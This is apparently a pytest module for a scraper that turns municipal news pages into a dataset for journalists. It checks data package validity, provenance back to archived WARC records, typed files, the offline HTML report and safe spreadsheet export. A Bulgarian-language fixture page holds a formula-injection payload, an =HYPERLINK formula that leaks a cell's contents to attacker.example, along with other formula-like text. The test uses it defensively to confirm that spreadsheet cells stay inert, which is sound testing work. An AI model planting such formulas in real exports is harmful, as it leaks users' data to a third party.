"""The exported dataset as journalists get it: a valid data package, rows that lead back to
their archived evidence, spreadsheet cells that never run, a report to look at."""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
import subprocess
from datetime import datetime
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from conftest import sources_for, write_sources_yaml
from test_cli import muni, one_line_error
from warcio.archiveiterator import ArchiveIterator

from muni.fixture_server import FixtureServer, load_sites
from normalizer.database import Database
from scraper.warc import Exchange, build_block

pytestmark = pytest.mark.slow  # real crawls, kills, clusters: make test-fast leaves them out

ENTITY_TABLES = ("cities", "city_mentions", "dates", "officials", "events", "relations",
                 "official_mentions", "event_mentions", "relation_mentions")


@pytest.fixture(scope="module")
def dataset(tmp_path_factory) -> Path:
    """The fixture sites crawled, parsed and exported once for this module's tests."""
    root = tmp_path_factory.mktemp("dataset")
    with FixtureServer(load_sites()) as server:
        sources = write_sources_yaml(root / "sources.yaml", sources_for(server))
        result = muni("--data-dir", str(root / "data"), "run", "--sources", str(sources))
    assert result.returncode == 0, result.stderr
    return root / "data"


def digests(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha1(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())
            if p.is_file()}


def test_the_data_package_validates_with_its_keys(dataset):
    from frictionless import validate

    clean = dataset / "clean"
    report = validate(str(clean / "datapackage.json"))
    assert report.valid, [e.message for t in report.tasks for e in t.errors][:5]
    package = json.loads((clean / "datapackage.json").read_text(encoding="utf-8"))
    resources = {r["name"]: r for r in package["resources"]}
    assert set(resources) >= {"pages", "cities", "city_mentions", "dates", "officials",
                              "events", "relations"}
    for resource in resources.values():
        assert all(f["description"] and f["type"] for f in resource["schema"]["fields"])
        assert resource["schema"]["primaryKey"]
        assert resource["stats"]["rows"] == len(pd.read_csv(clean / resource["path"]))
    assert {"fields": ["geonameid"], "reference": {"resource": "cities",
                                                   "fields": ["geonameid"]}} \
        in resources["city_mentions"]["schema"]["foreignKeys"]
    pages = pd.read_csv(clean / "pages.csv")
    assert package["created"] == pages.last_seen.max()  # dated by the data, not the clock
    assert package["licenses"][0]["name"] == "ODC-By-1.0"
    assert [s["title"].split(":")[0] for s in package["sources"]] == sorted(set(pages.source))
    # the package's checks can fail: a mention of a city the cities table lacks
    broken = dataset.parent / "broken"
    shutil.copytree(clean, broken)
    mentions = pd.read_csv(broken / "city_mentions.csv", dtype=str, keep_default_na=False)
    mentions.loc[0, "geonameid"] = "1"
    mentions.to_csv(broken / "city_mentions.csv", index=False)
    assert not validate(str(broken / "datapackage.json")).valid


def test_every_entity_row_leads_back_to_its_archived_response(dataset):
    clean = dataset / "clean"
    records: dict[str, tuple[str, str]] = {}  # record id -> (file, URL)
    for warc in (dataset / "raw").glob("*/*.warc.gz"):
        with open(warc, "rb") as stream:
            for record in ArchiveIterator(stream):
                if record.rec_type == "response":
                    records[record.rec_headers.get_header("WARC-Record-ID")] = (
                        warc.name, record.rec_headers.get_header("WARC-Target-URI"))
    pages = pd.read_parquet(clean / "pages.parquet").set_index("page_id")
    for name in ENTITY_TABLES:
        table = pd.read_parquet(clean / f"{name}.parquet")
        assert len(table), name
        for row in table.itertuples():
            assert records[row.warc_record_id] == (row.warc_file, row.url), name
            assert pages.loc[row.page_id, "url"] == row.url
            assert row.evidence and row.first_seen <= row.last_seen
    # evidence sentences are in the page's main text
    mentions = pd.read_parquet(clean / "city_mentions.parquet").head(50)
    for row in mentions.itertuples():
        text = pages.loc[row.page_id, "text"]
        assert row.evidence in text and text[row.start:row.end] == row.text


def test_files_are_typed_and_plain(dataset):
    clean = dataset / "clean"
    for path in clean.glob("*.csv"):
        assert not path.read_bytes().startswith(b"\xef\xbb\xbf"), path.name
    schema = pq.read_schema(clean / "events.parquet")
    assert str(schema.field("start").type) == "date32[day]"
    assert str(schema.field("first_seen").type).startswith("timestamp[")
    assert schema.field("first_seen").type.tz == "UTC"
    assert str(pq.read_schema(clean / "cities.parquet").field("geonameid").type) == "int64"
    officials = pd.read_csv(clean / "officials.csv")
    cyrillic = officials[officials.name.str.contains("[а-я]", regex=True)]
    assert len(cyrillic) and cyrillic.name_latin.notna().all()


def test_report_and_geojson_show_the_ties(dataset):
    result = muni("--data-dir", str(dataset), "report")
    assert result.returncode == 0, result.stderr
    clean = dataset / "clean"
    html = (clean / "report.html").read_text(encoding="utf-8")
    relations = pd.read_parquet(clean / "relations.parquet")
    events = pd.read_parquet(clean / "events.parquet")
    assert "<script" not in html and "http" not in html.split("<body>")[0]  # opens offline
    for source in pd.read_parquet(clean / "pages.parquet").source.unique():
        assert f"<td>{source}</td>" in html
    assert html.count("<line ") >= relations.b.notna().sum()  # ties drawn
    assert html.count('<circle cx=') >= events.start.notna().sum()  # events on the timeline
    officials = pd.read_parquet(clean / "officials.parquet")
    assert all(f'href="{u}"' in html for u in officials.url.head(20))
    geo = json.loads((clean / "ties.geojson").read_text(encoding="utf-8"))
    lines = [f for f in geo["features"] if f["geometry"]["type"] == "LineString"]
    assert len(lines) == relations.b.notna().sum()
    points = {f["properties"]["geonameid"]: f["geometry"]["coordinates"]
              for f in geo["features"] if f["geometry"]["type"] == "Point"}
    for line in lines:
        assert all(-180 <= lon <= 180 and -90 <= lat <= 90
                   for lon, lat in line["geometry"]["coordinates"])
    assert set(relations.a) <= set(points)


def test_a_failed_export_leaves_the_previous_dataset_whole(dataset, tmp_path):
    data = tmp_path / "data"
    shutil.copytree(dataset, data, symlinks=True)
    before = digests(data / "clean")
    broken = data / "interim" / "kenthaber.parquet"
    broken.write_bytes(broken.read_bytes()[:200])  # a parse stage cut short by a full disk
    result = muni("--data-dir", str(data), "export")
    assert result.returncode == 1 and "kenthaber.parquet" in one_line_error(result)
    assert digests(data / "clean") == before


# -- spreadsheets --------------------------------------------------------------------------

FORMULA_PAGE = """<!doctype html><html lang="bg"><head><meta charset="utf-8">
<title>=1+2 Община Казанлък</title></head><body><nav><a href="/">Начало</a></nav><article>
<h1>=1+2 Община Казанлък</h1>
<p>=HYPERLINK("http://attacker.example/?leak="&A1,"Кликнете тук") Кметът на Община Казанлък
Галина Стоянова посрещна делегация от побратимения град Кочани, Северна Македония, водена от
кмета Николчо Илиев, на 12 май 2023 г.</p>
<p>@kazanlak пише, че в Казанлък днес е -2 градуса; телефон за връзка +359 431 98 200.</p>
</article><footer>© Община Казанлък</footer></body></html>"""


def formula_warc(path: Path) -> None:
    body = FORMULA_PAGE.encode("utf-8")
    exchange = Exchange("https://www.kazanlak.bg/bg/novini/formula.html", "GET",
                        "/bg/novini/formula.html", [("Host", "www.kazanlak.bg")], 200, "OK",
                        [("Content-Type", "text/html; charset=utf-8")], body)
    block, _ = build_block(exchange)
    path.write_bytes(block)


RECALCULATE_ON_LOAD = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry"
 xmlns:xs="http://www.w3.org/2001/XMLSchema"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load">
<prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
</oor:items>
"""


def libreoffice_csv(workbook: Path, out: Path) -> dict[str, list[list[str]]]:
    """Each sheet as LibreOffice shows it, after loading and recalculating the workbook."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (.ci/run installs it)")
    (out / "profile" / "user").mkdir(parents=True)
    (out / "profile" / "user" / "registrymodifications.xcu").write_text(RECALCULATE_ON_LOAD)
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{out}/profile",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,"
                    "false,false,false,-1", "--outdir", str(out), str(workbook)],
                   check=True, capture_output=True, timeout=180)
    sheets = {}
    for path in out.glob(f"{workbook.stem}-*.csv"):
        with open(path, encoding="utf-8", newline="") as stream:
            sheets[path.stem.split("-", 1)[1]] = list(csv.reader(stream))
    return sheets


def test_formula_like_text_stays_text_in_a_real_spreadsheet(tmp_path):
    import xlsxwriter

    data = tmp_path / "data"
    formula_warc(tmp_path / "formula.warc.gz")
    assert muni("--data-dir", str(data), "parse", "--warc",
                str(tmp_path / "formula.warc.gz")).returncode == 0
    result = muni("--data-dir", str(data), "export")
    assert result.returncode == 0, result.stderr
    clean = data / "clean"
    # the canonical CSV keeps the raw value
    pages = pd.read_csv(clean / "pages.csv")
    assert pages.title[0] == "=1+2 Община Казанлък"
    assert pages.text[0].startswith('=HYPERLINK("http://attacker.example/')
    # a control: LibreOffice does run a formula cell, so the check below can fail
    control = tmp_path / "control.xlsx"
    book = xlsxwriter.Workbook(str(control))
    book.add_worksheet("s").write_formula(0, 0, "=1+2")
    book.close()
    assert libreoffice_csv(control, tmp_path / "control")["s"] == [["3"]]

    sheets = libreoffice_csv(clean / "muni.xlsx", tmp_path / "lo")
    header, row = sheets["pages"][0], sheets["pages"][1]
    assert row[header.index("title")] == "=1+2 Община Казанлък"
    assert row[header.index("text")].startswith('=HYPERLINK("http://attacker.example/')
    assert "Казанлък" in row[header.index("text")]  # Cyrillic survives
    texts = [r[sheets["city_mentions"][0].index("evidence")] for r in sheets["city_mentions"][1:]]
    assert any(t.startswith("@kazanlak пише, че в Казанлък") for t in texts)
    assert len(sheets) == len(json.loads((clean / "datapackage.json").read_text())["resources"])


def test_workbook_cells_are_typed_and_long_text_is_noted(tmp_path):
    from openpyxl import load_workbook
    from openpyxl.utils import get_column_letter

    from normalizer.kinds import TABLES
    from normalizer.spreadsheet import MAX_CELL, MAX_WIDTH, Workbook

    long_text = "дума " * 10_000
    # rows as the export reads them back out of its database
    database = Database(tmp_path / "muni.sqlite", create=True)
    seen = {"first_seen": "2026-01-01T00:00:00Z", "last_seen": "2026-01-01T00:00:00Z",
            "page_id": "p1", "url": "https://example.org/" + "n" * 30, "warc_file": "a",
            "warc_record_id": "r"}
    database.add("pages", [{"source": "s", "text": long_text, "title": "+90 212 000 00 00",
                            "has_text": True, "published": "2025-03-04", "content_sha1": "0",
                            "fetched_at": "2026-01-01T00:00:00Z", **seen}])
    database.add("cities", [{"geonameid": 730496, "name": "Kazanlak", "lat": 42.6, "lon": 25.4,
                             "mentions": 1, "pages": 1, **seen}])
    database.flush()
    workbook = Workbook(tmp_path / "book.xlsx", database.data_date())
    for table in TABLES:
        with workbook.sheet(table) as sheet:
            for rows in database.rows(table):
                sheet.add(rows)
    notes = workbook.close()
    assert notes and "pages" in notes[0]
    book = load_workbook(tmp_path / "book.xlsx")
    pages = book["pages"]
    header = [c.value for c in pages[1]]
    assert pages.cell(2, header.index("title") + 1).value == "+90 212 000 00 00"
    assert pages.cell(2, header.index("title") + 1).data_type == "s"
    assert len(pages.cell(2, header.index("text") + 1).value) == MAX_CELL
    assert book["cities"].cell(2, 1).value == 730496 and book["cities"].cell(2, 1).data_type == "n"
    published, fetched = (pages.cell(2, header.index(c) + 1) for c in ("published",
                                                                         "fetched_at"))
    assert published.value == datetime(2025, 3, 4) and published.number_format == "yyyy-mm-dd"
    assert fetched.value == datetime(2026, 1, 1) and fetched.data_type == "d"
    assert pages.cell(2, header.index("has_text") + 1).value is True
    # laid out to be read: filter, frozen header repeated on print, widths fitted and capped
    assert pages.auto_filter.ref == f"A1:{get_column_letter(len(header))}2"
    assert pages.freeze_panes == "A2" and pages.print_title_rows == "$1:$1"
    width = {h: pages.column_dimensions[get_column_letter(i + 1)].width
             for i, h in enumerate(header)}
    assert width["url"] > width["source"] and width["text"] <= MAX_WIDTH + 1
    assert width["content_sha1"] >= len("content_sha1")


def test_pages_without_main_text_are_flagged_and_counted_apart(dataset):
    clean = dataset / "clean"
    pages = pd.read_parquet(clean / "pages.parquet")
    assert pages.has_text.dtype == bool
    empty = pages.text.fillna("").str.strip() == ""
    assert empty.any() and (pages.has_text == ~empty).all()  # the calendar pages have none
    html = (clean / "report.html").read_text(encoding="utf-8")  # written by the export
    assert f"{int(empty[pages.source == 'kazanlak'].sum())} without text" in html
    assert "none " not in html.split("<h2>Events")[0]  # no language "none" counted


def test_the_sqlite_file_opens_as_journalists_open_it(dataset):
    import sqlite_utils

    clean = dataset / "clean"
    db = sqlite_utils.Database(clean / "muni.sqlite")
    for table in ("pages", "cities", "officials", "events", "relations", "event_mentions"):
        assert db[table].count == len(pd.read_csv(clean / f"{table}.csv")), table
    assert db["pages"].detect_fts() == "pages_fts" and db["events"].detect_fts() == "events_fts"
    assert db["events"].pks == ["event_id"]
    assert {(fk.column, fk.other_table) for fk in db["relations"].foreign_keys} >= {
        ("a", "cities"), ("b", "cities"), ("page_id", "pages")}
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []  # every id is there
    events = pd.read_csv(clean / "events.csv")
    word = events.evidence.dropna().iloc[0].split()[0]
    found = list(db["events"].search(word, columns=["event_id", "evidence"]))
    assert found and all(word.casefold() in r["evidence"].casefold() for r in found)
    # a page's text is searched too, and has_text is a 0/1 column as SQLite has booleans
    assert db.execute("SELECT DISTINCT has_text FROM pages").fetchall() in ([(0,), (1,)],
                                                                           [(1,), (0,)], [(1,)])


def test_the_export_reads_interim_files_in_batches_one_page_per_url(tmp_path):
    """Two sources' files, each in row groups of one record: the page crawled for both is
    the newest capture, and the export builds its tables from the records as they come."""
    from test_resolve import KAZANLAK, city, page

    from muni.cli import main

    interim = tmp_path / "data" / "interim"
    interim.mkdir(parents=True)
    older = {**page(1, "2026-01-01T10:00:00Z", cities=[city(KAZANLAK, "Kazanlak", 0)]),
             "source": "a", "text": "older"}
    other = {**page(2, "2026-01-01T11:00:00Z"), "source": "a"}
    newer = {**page(1, "2026-01-02T10:00:00Z", cities=[city(KAZANLAK, "Kazanlak", 0, 9)]),
             "source": "b", "text": "newer"}
    pd.DataFrame([older, other]).to_parquet(interim / "a.parquet", row_group_size=1)
    pd.DataFrame([newer]).to_parquet(interim / "b.parquet", row_group_size=1)
    assert main(["--quiet", "--data-dir", str(tmp_path / "data"), "export"]) == 0
    pages = pd.read_csv(tmp_path / "data" / "clean" / "pages.csv")
    assert list(zip(pages.page_id, pages.source, pages.text, strict=True)) == [
        ("p2", "a", "…"), ("p1", "b", "newer")]
    cities = pd.read_csv(tmp_path / "data" / "clean" / "cities.csv")
    assert list(cities.mentions) == [2]  # the newer capture's two mentions alone
